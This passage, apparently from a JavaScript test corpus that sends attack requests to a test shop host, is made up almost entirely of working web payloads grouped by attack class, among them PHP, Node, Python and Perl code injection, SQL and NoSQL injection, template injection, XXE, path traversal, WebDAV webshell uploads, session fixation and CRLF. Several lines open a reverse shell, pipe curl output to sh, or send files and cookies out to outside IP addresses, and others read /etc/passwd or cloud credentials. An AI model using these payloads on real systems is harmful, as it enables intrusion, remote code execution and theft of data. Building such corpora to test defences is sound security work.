  form(c, '/admin/snippets', [['code', 'preg_replace("/.*/e", $_POST["x"], "");'], ['x', 'system("id")']]);
  form(c, '/admin/snippets', [['code', "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');"]]);
  hdr(c, '/index.php', { Referer: '<?php file_put_contents("s.php", base64_decode("PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs=")); ?>' });
  q(c, '/index.php', [['_SESSION[user_id]', '1'], ['_SESSION[is_admin]', '1'], ['GLOBALS[_SERVER][REMOTE_ADDR]', '127.0.0.1']]);
}

// ---------------------------------------------------------------- Node.js: prototype pollution through query syntax, gadgets, obfuscated calls
{
  const c = 'node';
  get(c, '/api/users', '__proto__.isAdmin=true');
  get(c, '/api/users', 'constructor[prototype][isAdmin]=true');
  get(c, '/api/search', 'q=shoes&filter[__proto__][admin]=1');
  get(c, '/api/search', '%5F%5Fproto%5F%5F[role]=admin');
  get(c, '/api/search', 'constructor.prototype.role=admin&page=2');
  get(c, '/api/export', '__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require(%22child_process%22).execSync(%22id%22).toString())//&__proto__[NODE_OPTIONS]=--require%20/proc/self/cmdline');
  form(c, '/api/settings', [['__proto__[json spaces]', '10'], ['theme', 'dark']]);
  form(c, '/api/settings', [['__proto__[exposedHeaders]', 'X-Leak'], ['__proto__[credentials]', 'true']]);
  get(c, '/render', '__proto__[client]=1&__proto__[escapeFunction]=JSON.stringify;process.mainModule.require(%27child_process%27).exec(%27id%27)');
  json(c, '/api/merge', '{"a":1,"\\u005f_proto__":{"isAdmin":true}}');
  json(c, '/api/merge', '{"layout":{"constructor":{"prototype":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}}}');
  json(c, '/api/calc', { expr: "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})" });
  json(c, '/api/calc', { expr: "process['\\x6d\\x61\\x69\\x6e\\x4d\\x6f\\x64\\x75\\x6c\\x65']['\\x72\\x65\\x71\\x75\\x69\\x72\\x65']('child_process').execSync('id')" });
  q(c, '/api/calc', [['expr', 'require`child_process`.execSync`id`']]);
  json(c, '/api/sandbox/eval', { code: "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp','base64').toString())" });
  json(c, '/api/sandbox/eval', { code: 'global[String.fromCharCode(112,114,111,99,101,115,115)].mainModule.require(String.fromCharCode(102,115)).readFileSync(String.fromCharCode(47,101,116,99,47,112,97,115,115,119,100))+""' });
  form(c, '/api/report/filter', [['fn', "x => global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"]]);
  json(c, '/api/sandbox/eval', { code: "new (require('vm').Script)('this.constructor.constructor(\"return process\")().exit()').runInNewContext({})" });
  hdr(c, '/api/widgets', { 'X-Filter': 'constructor[prototype][polluted]=1' });
  mp(c, '/api/import', [{ name: 'options', content: '{"constructor":{"prototype":{"allowedHosts":["*"]}}}' }, { name: 'file', filename: 'rows.csv', type: 'text/csv', content: 'a,b\n1,2\n' }]);
  json(c, '/api/calc', { expr: "this['cons'+'tructor']['cons'+'tructor']('return proc'+'ess')()['main'+'Module']['req'+'uire']('child_'+'process')['exec'+'Sync']('id')" });
  gql(c, 'query R($e: String!) { report(expr: $e) { value } }', { e: "global.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout.toString()" });
}

// ---------------------------------------------------------------- Perl, Python, Ruby, R, Tcl code injection
{
  const c = 'scripting';
  q(c, '/api/py/calc', [['expr', "eval(compile('import os;os.system(\"id\")','x','exec'))"]]);
  json(c, '/api/py/calc', { expr: "[c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__=='Popen'][0](['id'],stdout=-1).communicate()" });
  form(c, '/api/py/calc', [['expr', "__import__('importlib').import_module('o'+'s').popen('id').read()"]]);
  json(c, '/api/notebook/cell', { source: "exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))" });
  json(c, '/api/py/calc', { expr: "__import__('pty').spawn('/bin/sh')" });
  form(c, '/cgi-bin/tool.pl', [['expr', 'system(join("",map{chr}(105,100)))']]);
  q(c, '/cgi-bin/tool.pl', [['e', "exec{'/bin/sh'}'sh','-c','id'"]]);
  json(c, '/api/perl/eval', { code: 'use IO::Socket;$c=new IO::Socket::INET(PeerAddr,"203.0.113.111:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;' });
  json(c, '/api/ruby/eval', { code: "Kernel.open('|id').read" });
  form(c, '/api/ruby/eval', [['code', 'instance_eval("`id`")']]);
  json(c, '/api/ruby/eval', { code: "require 'open3'; Open3.capture2('cat /etc/passwd')[0]" });
  q(c, '/api/ruby/eval', [['code', 'spawn("curl 203.0.113.112|sh")']]);
  json(c, '/api/r/run', { code: 'system("id", intern = TRUE)' });
  form(c, '/api/r/run', [['code', 'readLines(pipe("cat /etc/passwd"))']]);
  q(c, '/api/tcl/eval', [['s', '[exec /bin/sh -c id]']]);
}

// ---------------------------------------------------------------- SQL: vendor functions, JSON operators, odd whitespace, graph databases
{
  const c = 'sqli';
  q(c, '/products', [['id', "1;copy (select '') to program 'curl 203.0.113.121|sh'--"]]);
  q(c, '/products', [['id', '1;select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--']]);
  q(c, '/products', [['id', '1;declare @q varchar(99);set @q=0x77616974666f722064656c61792027303a303a3527;exec(@q)--']]);
  q(c, '/notes', [['id', '0 union select 1,sql,3 from sqlite_master--']]);
  q(c, '/products', [['id', "1 and 1=utl_http.request('http://203.0.113.122/'||(select user from dual))"]]);
  q(c, '/products', [['id', '1 rlike (select (case when (1=1) then 1 else 0x28 end))']]);
  q(c, '/products', [['id', '1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)']]);
  q(c, '/products', [['id', '1 and exp(~(select * from (select user())a))']]);
  q(c, '/products', [['id', '1 union select char(97,100,109,105,110),2']]);
  q(c, '/products', [['id', "1 and '{\"a\":1}'->>'$.a'=1 union select password from users"]]);
  q(c, '/products', [['id', '1e0union select 1,2,3']]);
  q(c, '/products', [['id', '-1 union select`user`,`password`from`mysql`.`user`']]);
  q(c, '/products', [['sort', 'if(1=1,price,(select 1 union select 2))']]);
  q(c, '/search', [['q', "x' group by concat_ws(0x3a,version(),floor(rand(0)*2)) having min(0) or 1-- -"]]);
  form(c, '/graph/search', [['name', "x' OR 1=1 WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://203.0.113.123/?l='+label AS b RETURN b//"]]);
  q(c, '/search', [['q', "shoe%' and 0x31=0x31 and '%'='"]]);
  q(c, '/products', [['id', ['-1%20%55nion%20%53elect%201,2,3']]]);
  q(c, '/products', [['id', ['1%0bunion%0bselect%0b1,2']]]);
  q(c, '/products', [['id', '1 union distinctrow select 1,table_name from information_schema.tables']]);
  q(c, '/products', [['id', "1 and substr(user(),1,1) regexp '^r'"]]);
  q(c, '/products', [['id', '1 and st_latfromgeohash(version())']]);
  q(c, '/products', [['id', '1 and 4162=cast((chr(113)||(select version())||chr(113))::text as numeric)']]);
  q(c, '/products', [['id', '1 and 1=convert(int,(select top 1 name from sysobjects where xtype=char(85)))']]);
  mp(c, '/api/import/rows', [{ name: 'sheet', content: 'orders' }, { name: 'where', content: "status='open') union all select username,password,null from admins-- " }]);
  hdr(c, '/report', { Referer: "https://shop.example.test/p?id=1' and (select 1 from(select sleep(6))a)-- -" });
  hdr(c, '/api/v1/stats', { 'X-Client-IP': '1 or 1=1 into outfile "/tmp/x"' });
  json(c, '/api/v1/query', { table: 'orders', columns: ['id', "(select string_agg(passwd,',') from pg_shadow)"] });
  push(c, 'POST', '/graphql', '', `query=${formEnc('{ orders(status: "open\' union select card_number from payments--") { id } }')}`, { ctype: 'application/x-www-form-urlencoded' });
}

// ---------------------------------------------------------------- NoSQL: operators in bracket/dot/JSON syntax, JS injection, other stores
{
  const c = 'nosql';
  form(c, '/login', [['username[$exists]', 'true'], ['password[$exists]', 'true']]);
  get(c, '/api/users', 'filter[password][$regex]=%5Ea&filter[username]=admin');
  get(c, '/api/users', 'where.password.$ne=x');
  json(c, '/api/auth', { $and: [{ username: 'admin' }, { $where: 'return true' }] });
  json(c, '/api/auth', { username: 'admin', password: { $not: { $eq: 'x' } } });
  json(c, '/api/auth', { username: 'admin', password: { $regex: 'a.*', $options: 'si' } });
  q(c, '/api/users', [['name', "x'; return db.users.find(); var y='"]]);
  q(c, '/api/users', [['name', "x';sleep(5000);'"]]);
  json(c, '/api/search', { filter: { $where: "this.password.match(/^a.*/) && sleep(3000)" } });
  json(c, '/db/_find', { selector: { _id: { $gt: null } }, fields: ['_id', 'password_scheme', 'derived_key'], limit: 500 });
  json(c, '/api/products/search', { query: { query_string: { query: '* OR _exists_:password_hash', default_field: '*' } } });
  json(c, '/api/orders', { where: { total: { $gt: 0 }, customerId: { $ne: null } }, limit: 1000000 });
  get(c, '/api/orders', 'where[customerId][$gte]=&limit=99999');
  json(c, '/api/orders/mapreduce', { map: 'function(){ emit(1, db.getSiblingDB("admin").system.users.find().toArray()) }', reduce: 'function(k,v){return v}' });
  json(c, '/api/reports/aggregate', { pipeline: [{ $match: {} }, { $out: 'users' }] });
  push(c, 'POST', '/api/login', '', 'username=admin&password[%24gt]=&password[%24lt]=~', { ctype: 'application/x-www-form-urlencoded' });
  hdr(c, '/api/profile', { 'X-Filter': '{"owner":{"$ne":"me"}}' });
  gql(c, '{ users(filter: "{\\"email\\":{\\"$regex\\":\\".*@corp\\"},\\"role\\":{\\"$in\\":[\\"admin\\"]}}") { email passwordHash } }', {});
}

// ---------------------------------------------------------------- LDAP and XPath/XQuery injection in more carriers
{
  const c = 'ldap-xpath';
  form(c, '/login', [['user', '*)(|(objectClass=*))'], ['pass', 'x']]);
  form(c, '/login', [['user', 'admin)(!(&(1=0'], ['pass', 'x))']]);
  q(c, '/directory/search', [['cn', ['*))%00']]]);
  json(c, '/api/directory/users', { uid: 'admin)(|(description=*pass*' });
  hdr(c, '/intranet/', { 'X-Forwarded-User': '*)(objectClass=user)(sAMAccountName=*' });
  q(c, '/directory/search', [['mail', 'x*)(mail=*@*']]);
  xml(c, '/ws/directory', `<?xml version="1.0"?><lookup><uid>${ent('admin*)(|(userPassword=*')}</uid></lookup>`);
  gql(c, 'query D($n: String!) { people(name: $n) { dn } }', { n: 'x)(|(cn=*)(uidNumber>=0' });
  q(c, '/api/catalog', [['category', "']|//user/password|//a['"]]);
  form(c, '/login', [['user', "x' or name()='username' or 'x'='y"], ['pass', 'x']]);
  q(c, '/api/catalog', [['title', "x' and count(/child::node())>0 and 'a'='a"]]);
  q(c, '/api/catalog', [['title', "x' or contains(//user[position()=1]/password,'a') or 'a'='b"]]);
  form(c, '/api/xquery', [['q', "x'] | unparsed-text('/etc/passwd') | .['"]]);
  json(c, '/api/xml/query', { path: "/orders/order[id=1 or 1=1]/card" });
  xml(c, '/ws/auth', '<?xml version="1.0"?><soap12:Envelope xmlns:soap12="http://www.w3.org/2003/05/soap-envelope"><soap12:Body><Auth><u>x" or "1"="1</u><p>" or ""="</p></Auth></soap12:Body></soap12:Envelope>', { ctype: 'application/soap+xml' });
  json(c, '/api/xml/query', { path: 'for $u in doc("users.xml")//user return concat($u/name, ":", $u/password)' });
}

// ---------------------------------------------------------------- template injection in less common engines
{
  const c = 'ssti';
  form(c, '/api/mail/preview', [['body', "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"]]);
  json(c, '/api/templates/pebble', { tpl: "{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('id').inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}" });
  form(c, '/hubspot/preview', [['tpl', "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"new java.lang.ProcessBuilder('id').start()\")}}"]]);
  json(c, '/api/themes/snippet', { liquid: "{% include '../../../../../etc/passwd' %}" });
  json(c, '/api/helm/render', { values: 'x', template: '{{ env "AWS_SECRET_ACCESS_KEY" }}{{ expandenv "$DATABASE_URL" }}' });
  form(c, '/admin/blade/preview', [['view', "@php system('id'); @endphp"]]);
  form(c, '/shop/item/note', [['note', '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET[c]); ?>",self::clearConfig())}']]);
  q(c, '/page', [['t', '{php}system("id");{/php}']]);
  json(c, '/api/dust/render', { tpl: "{@if cond=\"global.process.mainModule.require('child_process').execSync('id')\"}x{/if}" });
  form(c, '/api/dot/render', [['tpl', "{{= global.process.mainModule.require('child_process').execSync('id') }}"]]);
  json(c, '/api/marko/render', { tpl: "<div>${require('child_process').execSync('id').toString()}</div>" });
  q(c, '/api/lodash/preview', [['tpl', "<% global.process.mainModule.require('child_process').exec('curl 203.0.113.131|sh') %>"]]);
  form(c, '/admin/slim/preview', [['tpl', 'p #{%x(id)}']]);
  json(c, '/api/genshi/render', { tpl: "${__import__('os').popen('id').read()}" });
  form(c, '/api/cheetah/render', [['tpl', "#import os\n$os.popen('id').read()"]]);
  json(c, '/api/velocity/render', { tpl: '#set($rt=$class.inspect("java.lang.Runtime").type.getRuntime())#set($p=$rt.exec("id"))$p.waitFor()' });
  form(c, '/api/templates/render', [['tpl', '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}']]);
  q(c, '/greet', [['name', "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"]]);
  form(c, '/account/profile', [['nickname', '{{ messages.storages.0.signer.key }}']]);
  json(c, '/api/eta/render', { tpl: "<%~ it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') %>" });
  hdr(c, '/api/notify', { 'X-Template': "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}" });
  gql(c, 'mutation T($b: String!) { saveTemplate(body: $b) { id } }', { b: '<#assign c=\'freemarker.template.utility.ObjectConstructor\'?new()>${c("java.util.Scanner", c("java.lang.ProcessBuilder",["id"]).start().getInputStream()).next()}' });
}

// ---------------------------------------------------------------- XXE: XInclude, OOB over FTP, CDATA exfiltration, other carriers and encodings
{
  const c = 'xxe';
  xml(c, '/soap/Orders', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><get xmlns:xi="http://www.w3.org/2001/XInclude"><id><xi:include href="file:///etc/passwd" parse="text"/></id></get></soapenv:Body></soapenv:Envelope>', { ctype: 'text/xml' });
  xml(c, '/api/import', '<?xml version="1.0" standalone="no"?><!DOCTYPE r SYSTEM "http://203.0.113.141/r.dtd"><r>&ext;</r>');
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % w "<!ENTITY &#x25; s SYSTEM \'ftp://203.0.113.142:2121/%f;\'>">%w;%s;]><d/>');
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % start "<![CDATA["><!ENTITY % file SYSTEM "file:///var/www/html/config.php"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://203.0.113.143/join.dtd">%dtd;]><d>&all;</d>');
  xml(c, '/api/import', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('<?xml version="1.0" encoding="UTF-16BE"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o>&x;</o>', 'utf16le').swap16()]));
  mp(c, '/api/maps/import', [{ name: 'kml', filename: 'route.kml', type: 'application/vnd.google-earth.kml+xml', content: '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY e SYSTEM "file:///etc/passwd">]><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&e;</name></Placemark></kml>' }]);
  mp(c, '/api/documents', [{ name: 'doc', filename: 'minutes.odt', type: 'application/vnd.oasis.opendocument.text', content: zip([['mimetype', 'application/vnd.oasis.opendocument.text'], ['content.xml', '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY % r SYSTEM "http://203.0.113.144/o.dtd">%r;]><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>']]) }]);
  mp(c, '/api/slides', [{ name: 'deck', filename: 'q3.pptx', type: 'application/vnd.openxmlformats-officedocument.presentationml.presentation', content: zip([['[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'], ['ppt/presentation.xml', '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:notes>&x;</p:notes></p:presentation>']]) }]);
  push(c, 'POST', '/api/contact', '', '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><contact><email>&x;</email></contact>', { ctype: 'application/x-www-form-urlencoded' });
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA">]><q>' + '&a;'.repeat(400) + '</q>');
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE g [<!ENTITY x SYSTEM "gopher://127.0.0.1:6379/_INFO%0d%0a">]><g>&x;</g>');
  xml(c, '/api/profile', '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///proc/self/environ">]><profile name="&e;"/>');
  gql(c, 'mutation I($x: String!) { importXml(doc: $x) { count } }', { x: '<?xml version="1.0"?><!DOCTYPE i [<!ENTITY % d SYSTEM "http://203.0.113.145/g.dtd">%d;]><items/>' });
  mp(c, '/api/avatar', [{ name: 'avatar', filename: 'badge.svg', type: 'image/svg+xml', content: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><text><xi:include href="file:///etc/hostname" parse="text"/></text></svg>' }]);
  mp(c, '/upload/photo', [{ name: 'photo', filename: 'beach.jpg', type: 'image/jpeg', content: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x01, 0x00]), Buffer.from('http://ns.adobe.com/xap/1.0/\0<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://203.0.113.146/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>', 'latin1'), Buffer.from([0xff, 0xd9])]) }]);
  xml(c, '/api/feeds', '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd"><!ENTITY % y "<!ENTITY &#37; z SYSTEM \'http://203.0.113.147/?d=%x;\'>">%y;%z;]><rss/>', { ctype: 'application/rss+xml' });
}

// ---------------------------------------------------------------- traversal in unusual encodings and server-specific forms
{
  const c = 'traversal';
  q(c, '/download', [['f', ['%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd']]]);
  q(c, '/download', [['f', ['..%255c..%255c..%255cwindows%255cwin.ini']]]);
  get(c, '/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd');
  q(c, '/download', [['f', ['%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd']]]);
  q(c, '/view', [['page', ['%ef%bc%8e%ef%bc%8e%ef%bc%8f%ef%bc%8e%ef%bc%8e%ef%bc%8fetc%ef%bc%8fpasswd']]]);
  get(c, '/app/..;/manager/html');
  get(c, '/public/%2e%2e;/%2e%2e;/WEB-INF/web.xml');
  q(c, '/download', [['f', '....//....//....//etc/passwd']]);
  get(c, '/assets../etc/nginx/nginx.conf');
  q(c, '/download', [['f', '..\\..\\..\\inetpub\\wwwroot\\web.config::$DATA']]);
  q(c, '/download', [['f', '\\\\?\\C:\\Windows\\win.ini']]);
  mp(c, '/api/upload', [{ name: 'file', filename: '..\\..\\..\\..\\inetpub\\wwwroot\\s.aspx', type: 'text/plain', content: '<%@ Page Language="C#" %><% Response.Write("x"); %>' }]);
  mp(c, '/api/plugins/install', [{ name: 'plugin', filename: 'theme.zip', type: 'application/zip', content: zip([['theme/style.css', 'body{}'], ['../../../../var/www/html/s.php', '<?php system($_GET[0]);']]) }]);
  q(c, '/view', [['tpl', '/proc/self/cwd/config/database.yml']]);
  json(c, '/api/files/read', '{"path":"\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd"}');
  q(c, '/download', [['f', 'Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==']]);
  hdr(c, '/api/docs', { 'X-File-Name': '../../../../root/.ssh/id_rsa' });
  xml(c, '/ws/reports', '<?xml version="1.0"?><report><template>..%2f..%2f..%2f..%2fetc%2fshadow</template></report>');
}

// ---------------------------------------------------------------- WebDAV and method-based attacks
{
  const c = 'webdav';
  raw(c, 'PUT', '/uploads/cmd.jsp', '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>', 'application/octet-stream');
  push(c, 'MOVE', '/dav/notes.txt', '', undefined, { headers: { Destination: 'http://shop.example.test/dav/notes.asp;.jpg', Overwrite: 'T' } });
  push(c, 'COPY', '/dav/a.txt', '', undefined, { headers: { Destination: 'http://shop.example.test/dav/../../web.config' } });
  raw(c, 'PROPFIND', '/dav/', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&x;</D:displayname></D:prop></D:propfind>', 'application/xml', { headers: { Depth: 'infinity' } });
  raw(c, 'PROPPATCH', '/dav/file.txt', '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % d SYSTEM "http://203.0.113.151/p.dtd">%d;]><D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><x>1</x></D:prop></D:set></D:propertyupdate>', 'text/xml');
  push(c, 'POST', '/uploads/s.php', '', '<?php system($_REQUEST["c"]); ?>', { ctype: 'application/octet-stream', headers: { 'X-HTTP-Method-Override': 'PUT' } });
  push(c, 'TRACE', '/', '', undefined, { headers: { 'X-Probe': '<script>alert(document.cookie)</script>' } });
  push(c, 'PUT', '/uploads/.x.session', '', Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11]), Buffer.from('java.util.HashMap', 'latin1'), Buffer.from('org.apache.commons.collections.keyvalue.TiedMapEntry', 'latin1')]), { ctype: 'application/octet-stream', headers: { 'Content-Range': 'bytes 0-5/100' } });
  raw(c, 'PROPFIND', '/', '<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>', 'text/xml', { headers: { If: '<http://localhost/aaaaaaa\xe6\xbd\xa8\xe7\xa1\xa3\xe7\x9d\xa1\xe7\x84\xb3\xe6\xa4\xb6\xe4\x9d\xb2> (Not <locktoken:write1>) <http://localhost/bbbbbbb>' } });
  raw(c, 'PUT', '/cgi-bin/status.cgi', '#!/bin/sh\necho "Content-Type: text/plain"\necho\nid\n', 'text/plain');
  form(c, '/users/7', [['_method', 'PUT'], ['role', 'admin'], ['avatar', '<?php eval($_POST[1]);?>']]);
  raw(c, 'SEARCH', '/dav/', '<?xml version="1.0"?><D:searchrequest xmlns:D="DAV:"><D:sql>SELECT "DAV:displayname" FROM scope() WHERE "DAV:displayname" = \'\' OR 1=1 --\'</D:sql></D:searchrequest>', 'text/xml');
}

// ---------------------------------------------------------------- injections carried inline in GraphQL documents
{
  const c = 'graphql';
  gql(c, '{ product(id: "1\' or \'1\'=\'1") { name price } }', {});
  gql(c, 'mutation { importFeed(url: "http://169.254.169.254/latest/meta-data/iam/security-credentials/") { status } }', {});
  gql(c, '{ document(path: "../../../../etc/passwd") { content } }', {});
  gql(c, 'mutation { diagnostics(host: "127.0.0.1; cat /etc/passwd") { output } }', {});
  get(c, '/graphql', `query=${enc('{ search(q: "${jndi:ldap://203.0.113.161/g}") { id } }')}`);
  gql(c, '{ users(filter: "{\\"$where\\":\\"sleep(5000)\\"}") { id } }', {});
  gql(c, 'mutation { updateProfile(bio: "{{config.__class__.__init__.__globals__[\'os\'].popen(\'id\').read()}}") { bio } }', {});
  push(c, 'POST', '/graphql', '', JSON.stringify([{ query: '{ me { id } }' }, { query: 'mutation { runReport(sql: "select * from users; drop table audit_log") { rows } }' }]), { ctype: 'application/json' });
  get(c, '/graphql', `operationName=P&variables=${enc('{"id":"1 union select password from users--"}')}&extensions=${enc('{"persistedQuery":{"version":1,"sha256Hash":"4c3f"}}')}`);
  mp(c, '/graphql', [{ name: 'operations', content: '{"query":"mutation($f: Upload!) { upload(file: $f) { path } }","variables":{"f":null}}' }, { name: 'map', content: '{"0":["variables.f"]}' }, { name: '0', filename: '../../../../var/www/html/x.php', type: 'application/x-php', content: '<?php system($_GET[1]);' }]);
  gql(c, 'mutation { setAvatar(url: "file:///etc/shadow") { ok } }', {});
  gql(c, '{ render(template: "<#assign ex=\\"freemarker.template.utility.Execute\\"?new()>${ex(\\"id\\")}") }', {});
  gql(c, 'mutation { login(username: "admin\\")(|(uid=*", password: "x") { token } }', {});
  gql(c, 'query { orders(orderBy: "created_at; select pg_sleep(7)") { id } }', {});
}

// ---------------------------------------------------------------- polyglots: one value for several contexts
{
  const c = 'polyglot';
  q(c, '/search', [['q', "1'\"`;sleep 5;#--\"><svg/onload=alert(1)>{{7*7}}"]]);
  form(c, '/feedback', [['text', "{{7*'7'}}<%=7*7%>${7*7}#{7*7}*{7*7}@(7*7)"]]);
  q(c, '/download', [['f', '../../../../etc/passwd%00|id;`id`']]);
  json(c, '/api/profile', { name: "'\"--><script>fetch('//203.0.113.171/'+document.cookie)</script><!--" });
  mp(c, '/upload/image', [{ name: 'image', filename: 'x.gif', type: 'image/gif', content: 'GIF89a/*<?php system($_GET[c]);?>*/=1;alert(document.domain)//' }]);
  q(c, '/api/lookup', [['v', "${jndi:ldap://203.0.113.172/p}' or 1=1--;id"]]);
  hdr(c, '/', { 'User-Agent': "() { :; }; /bin/id ${jndi:ldap://203.0.113.173/q} <?php system('id');?>" });
  form(c, '/comment', [['body', "javascript:/*--></title></style></textarea></script><svg onload=confirm(1)>*/"]]);
  json(c, '/api/search', { q: { $ne: null }, text: "' OR 1=1-- ", tpl: '{{7*7}}' });
  q(c, '/api/items', [['id', "1;'||(select sleep(5))||';$(sleep 5)"]]);
}

// ---------------------------------------------------------------- session fixation, cookie injection and forged session tokens
{
  const c = 'session';
  hdr(c, '/account', { Cookie: '=__Host-session=attacker-tossed-0009; theme=dark' });
  hdr(c, '/account', { Cookie: '$Version=1; session="attacker-fixed-0010"; $Path=/; $Domain=.shop.example.test' });
  hdr(c, '/account', { Cookie: '__Secure-session=legit0011; __Secure-session=attacker-fixed-0011' });
  hdr(c, '/account', { Cookie: 'prefs=a%3B%20sessionid%3Dattacker0012%3B%20Path%3D%2F' });
  hdr(c, '/index.php', { Cookie: 'PHPSESSID=../../../../tmp/sess_attacker0013' });
  form(c, '/login', [['username', 'victim'], ['password', 'Spring2025!'], ['PHPSESSID', 'attacker0014fixedvalue00000000']]);
  q(c, '/Account/Login.aspx', [['ASP.NET_SessionId', 'attackerfixed0015qwertyui'], ['ReturnUrl', '/']]);
  get(c, '/shop/cart.do;jsessionid=ATTACKERFIXED0016ABCDEF0123456789', 'item=7');
  hdr(c, '/api/orders', { Cookie: 'token=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.' });
  hdr(c, '/api/orders', { Authorization: `Bearer ${b64('{"alg":"HS256","kid":"../../../../../dev/null"}').replace(/=+$/, '')}.${b64('{"sub":"admin"}').replace(/=+$/, '')}.AA` });
  q(c, '/share', [['link', "javascript:document.cookie='sid=attacker0017;domain=.shop.example.test;path=/'"]]);
  hdr(c, '/account', { Cookie: 'sessionid=attacker0018; Domain=.shop.example.test; Path=/; HttpOnly' });
  json(c, '/api/sso/callback', { state: 'x', cookies: 'auth_session=attacker0019; Path=/; SameSite=None' });
  hdr(c, '/dashboard', { Cookie: 'session=legit; lang=en; SESSIONID=attacker0020' });
  form(c, '/profile/bio', [['bio', '<svg><script>document.cookie="__Host-sid=attacker0021; path=/; secure"</script></svg>']]);
}

// ---------------------------------------------------------------- CRLF: Unicode truncation, response splitting, smuggling bodies, mail and log forging
{
  const c = 'crlf';
  get(c, '/%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=1');
  q(c, '/r', [['next', ['%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>']]]);
  push(c, 'POST', '/api/cart', '', '0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x', { ctype: 'application/x-www-form-urlencoded', headers: { 'Transfer-Encoding': 'chunked' } });
  form(c, '/contact', [['email', 'me@example.org\nBcc: victims@evil.example.net'], ['msg', 'hi']]);
  form(c, '/contact', [['subject', ['hello%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<a href=//evil.example.net>click</a>']], ['msg', 'x']]);
  form(c, '/login', [['username', ['admin%0a2026-12-07T21:00:00Z%20INFO%20login%20succeeded%20user=root']], ['password', 'x']]);
  json(c, '/api/audit', { actor: 'bob\u2028[INFO] user=admin action=grant-all' });
  q(c, '/lang', [['l', ['en%250d%250aSet-Cookie:%2520g=7']]]);
  q(c, '/r', [['u', ['/a%0dLocation:%20https://evil.example.net']]]);
